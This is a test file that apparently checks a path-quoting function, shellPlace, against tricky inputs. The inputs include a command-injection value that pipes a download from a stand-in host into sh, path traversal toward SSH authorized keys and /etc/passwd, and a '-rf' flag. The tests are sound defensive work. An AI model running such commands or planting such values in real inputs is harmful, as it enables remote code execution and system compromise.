import { expect, test } from "vitest";
import { shellPlace } from "../src/parts/shell-words.ts";

test.each([
  ["data/users.csv", "data/users.csv"],
  ["", "data"],
  ["/etc/passwd", "etc/passwd"],
  ["../../.ssh/authorized_keys", ".ssh/authorized_keys"],
  ["data/../../x", "data/x"],
  ["-rf", "./-rf"],
  ["$(curl evil.sh|sh)", "'$(curl evil.sh|sh)'"],
  ["it's", "'it'\\''s'"],
])("the path %j is the word %s", (path, word) => {
  expect(shellPlace(path)).toBe(word);
});
